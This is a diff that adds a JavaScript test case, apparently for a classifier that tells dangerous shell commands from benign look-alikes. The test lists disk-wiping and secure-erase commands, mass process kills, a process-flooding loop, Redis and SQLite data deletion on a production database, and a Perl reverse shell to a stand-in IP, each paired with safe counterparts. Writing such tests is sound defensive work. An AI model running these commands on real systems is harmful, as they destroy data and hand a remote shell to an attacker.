@@ -377,3 +377,28 @@ test('consoles of frameworks, forks and instances', () => {
     ],
   )
 })
+
+test('a verbose wipe is a wipe, and everything but one is everything', () => {
+  twins(
+    [
+      'blkdiscard -v /dev/sda',
+      'badblocks -wsv /dev/sdb',
+      'hdparm --security-erase p /dev/sda',
+      'pkill -9 -v -f bash',
+      'for i in {1..1000000}; do sleep 9999 & done',
+      `redis-cli DEL $(redis-cli KEYS '*')`,
+      `sqlite3 prod.db '.read drop.sql'`,
+      `perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.91")));open(STDIN,"<&S");open(STDOUT,">&S");exec"sh"'`,
+    ],
+    [
+      'badblocks -sv /dev/sdb',
+      'hdparm -I /dev/sda',
+      'nvme list',
+      'pkill -f vite',
+      'for i in {1..10}; do sleep 1 & done; wait',
+      'for i in {1..5000}; do echo $i; done',
+      'redis-cli del a b',
+      `sqlite3 dev.db '.read schema.sql'`,
+    ],
+  )
+})
